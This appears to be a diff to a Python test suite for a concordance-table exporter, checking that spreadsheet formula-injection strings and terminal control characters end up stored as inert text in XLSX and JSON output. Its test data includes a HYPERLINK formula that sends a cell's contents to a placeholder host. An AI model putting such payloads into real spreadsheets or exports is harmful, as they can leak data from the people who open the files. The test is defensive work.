@@ -20,7 +20,7 @@ HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&A1,"click")', "+1+2", "-2+3"
 
 
 def hostile_frame() -> pd.DataFrame:
-    rows = [[h, "", "discuss", "VERB", "-", "discussed", h, "discussed", h, f"They {h} here\x07\x1b[31m."]
+    rows = [[h, "", "discuss", "VERB", "-", "discussed", "idea", h, "discussed", h, f"They {h} here\x07\x1b[31m."]
             for h in HOSTILE]
     return pd.DataFrame(rows, columns=KWIC_COLUMNS)
 
@@ -64,7 +64,7 @@ def test_xlsx_export_stores_text_as_text(tmp_path):
 
 
 def test_json_export_is_clean(tmp_path):
-    rows = json.loads(write_table(hostile_frame(), tmp_path / "kwic.json").read_text(encoding="utf-8"))
+    rows = json.loads(write_table(hostile_frame(), tmp_path / "kwic.json").read_text(encoding="utf-8"))["rows"]
     assert rows[0]["writer"] == HOSTILE[0]          # JSON is not opened by spreadsheets: kept as written
     assert all("\x07" not in r["sentence"] for r in rows)
 
@@ -102,3 +102,14 @@ def test_atomic_path_replaces_in_one_step(tmp_path):
         tmp.write_text("new", encoding="utf-8")
         assert not target.exists()
     assert target.read_text(encoding="utf-8") == "new"
+
+
+def test_xlsx_run_sheet_stores_a_hostile_class_name_as_text(tmp_path):
+    run = {"class": '=HYPERLINK("http://example.invalid","x")', "term": "+1", "thresholds": {"min_count": 3}}
+    path = write_table(hostile_frame(), tmp_path / "kwic.xlsx", run, {"writer": "=the writer"})
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["concordance", "run", "columns"]
+    items = {r[0].value: r[1] for r in wb["run"].iter_rows(min_row=2)}
+    assert items["class"].data_type == "s" and items["class"].value == run["class"]
+    assert items["thresholds.min_count"].value == 3
+    assert wb["columns"]["B2"].data_type == "s" and wb["columns"]["B2"].value == "=the writer"
